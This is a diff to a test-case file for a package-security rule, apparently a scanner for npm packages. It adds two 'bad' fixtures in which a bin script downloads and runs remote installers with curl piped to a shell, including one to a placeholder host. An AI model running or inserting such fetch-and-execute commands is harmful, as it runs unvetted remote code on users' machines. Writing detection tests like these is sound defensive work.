@@ -3,6 +3,18 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'the installer of a package manager, fetched where a server finds none when it starts',
+      alone: 'review',
+      code: "#!/usr/bin/env node\nconst { execSync } = require('child_process');\ntry { execSync('bun --version') } catch { execSync('curl -fsSL https://bun.sh/install | bash') }",
+      manifest: { bin: 'index.js' },
+    },
+    {
+      name: 'an installer of somebody else beside that of a package manager',
+      alone: 'block',
+      code: "#!/usr/bin/env node\nrequire('child_process').execSync('curl -fsSL https://bun.sh/install | bash; curl -s https://files.example/i.sh | sh')",
+      manifest: { bin: 'index.js' },
+    },
+    {
       name: 'a driver in a folder of the version that a service names',
       alone: 'pass',
       manifest: { scripts: { install: 'node install.js' } },
